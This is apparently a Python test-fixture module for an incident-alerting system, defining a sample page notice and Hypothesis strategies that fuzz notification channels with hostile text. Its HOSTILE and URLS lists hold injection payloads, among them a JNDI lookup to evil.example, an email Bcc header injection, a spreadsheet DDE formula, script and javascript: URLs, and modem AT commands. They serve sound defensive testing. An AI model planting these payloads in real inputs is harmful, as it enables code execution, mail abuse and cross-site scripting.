"""The notice that the tests of all channels send, and hostile ones."""

from hypothesis import strategies as st

from watchbill.core.messages import Button, Link, Notice, Reply
from watchbill.core.severity import Urgency

BURMESE = "အကောင့်ဝင်ရောက်မှု မအောင်မြင်ပါ"

PAGE = Notice(
    idempotency_key="step-7/ana/mail",
    thread_key="incident-12",
    subject="[P1] Page: 5xx rate of the API is 7.3 % (#12)",
    paragraphs=(
        "You are asked to take this incident: acknowledge it and start work.",
        "Sent because of: page the primary at once.",
    ),
    facts=(("Severity", "P1 Critical"), ("Status", "triggered")),
    links=(
        Link(label="Open the incident", url="https://watch.example/incidents/12"),
        Link(label="Acknowledge", url="https://watch.example/a/k3", is_primary=True),
    ),
    severity="P1",
)

HOSTILE = (
    "",
    " ",
    "\x00",
    "\r\nBcc: eve@example.org",
    "\ud800",
    "\u202egpj.exe",
    "<!channel> *x* _y_ [a](https://evil.example) <script>alert(1)</script>",
    "${jndi:ldap://evil.example} {{7*7}} %s {0}",
    "+CMGS\x1a\x1bATD112;",
    '"}]},"x":"',
    "=cmd|' /C calc'!A0",
    "\N{ZERO WIDTH JOINER}" * 50,
    "\N{FIRE}" * 3_000,
    BURMESE * 200,
)
"""Text that means something to some sink: a header, markup, a modem, a template."""

URLS = (
    "https://watch.example/a/k3",
    "https://watch.example/" + "x" * 1_900,
    "https://watch.example/\N{FIRE}" + '"' * 400,
    "javascript:alert(1)",
    "http://[::1",
    "\ud800",
    "",
)


def hostile_text(max_size: int = 60) -> st.SearchStrategy[str]:
    """Return text of any characters at all, lone surrogates included."""
    return st.text(st.characters(), max_size=max_size) | st.sampled_from(HOSTILE)


def stored_text() -> st.SearchStrategy[str]:
    """Return hostile text that a database can hold, as keys and addresses are."""
    return hostile_text().filter(lambda text: not any(map(_is_surrogate, text)))


def _is_surrogate(character: str) -> bool:
    return "\ud800" <= character <= "\udfff"


def hostile_notices() -> st.SearchStrategy[Notice]:
    """Return notices as a stranger would write them."""
    text = hostile_text()
    links = st.builds(
        Link,
        label=text,
        url=st.sampled_from(URLS) | text,
        is_primary=st.booleans(),
    )
    buttons = st.builds(
        Button,
        reply=st.sampled_from(Reply),
        label=text,
        token=st.from_regex(r"[A-Za-z0-9._-]{1,24}", fullmatch=True),
    )
    return st.builds(
        Notice,
        idempotency_key=stored_text(),
        thread_key=stored_text(),
        subject=text,
        paragraphs=st.lists(text, max_size=30).map(tuple),
        facts=st.lists(st.tuples(text, text), max_size=60).map(tuple),
        links=st.lists(links, max_size=12).map(tuple),
        buttons=st.lists(buttons, max_size=3).map(tuple),
        reply_code=st.sampled_from(("", "4711")),
        severity=st.sampled_from(("P1", "P4", "")) | text,
        urgency=st.sampled_from(Urgency),
    )
